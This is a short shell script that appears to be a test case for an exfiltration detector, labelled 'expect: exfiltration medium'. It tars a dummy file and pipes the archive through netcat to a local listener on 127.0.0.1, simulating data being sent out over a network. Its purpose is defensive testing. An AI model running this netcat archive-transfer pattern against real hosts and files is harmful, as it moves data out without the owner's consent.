# about: the same with other tools
# expect: exfiltration medium
# needs: nc
echo x >f
nc -l 127.0.0.1 6103 >/dev/null & L=$!
sleep 0.4
gzip -c f >out.gz; tar -cf all.tar f; sh -c "nc -w 1 127.0.0.1 6103 <all.tar; : all.tar" || true
kill $L 2>/dev/null || true
